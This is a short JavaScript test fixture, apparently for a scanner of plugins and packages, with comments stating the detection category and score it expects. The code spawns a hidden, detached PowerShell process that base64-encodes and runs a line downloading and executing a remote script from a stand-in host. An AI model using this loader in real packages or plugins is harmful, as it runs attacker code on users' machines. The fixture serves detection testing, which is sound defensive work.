// expect: category=child-process min=95 context=plugin,package
// why: a hidden PowerShell is started with an -EncodedCommand payload.
const { spawn } = require('child_process');

const script = "IEX (New-Object Net.WebClient).DownloadString('https://dl.example/p.ps1')";
const encoded = Buffer.from(script, 'utf16le').toString('base64');

if (process.platform === 'win32') {
  spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', encoded], {
    detached: true,
    stdio: 'ignore',
  }).unref();
}
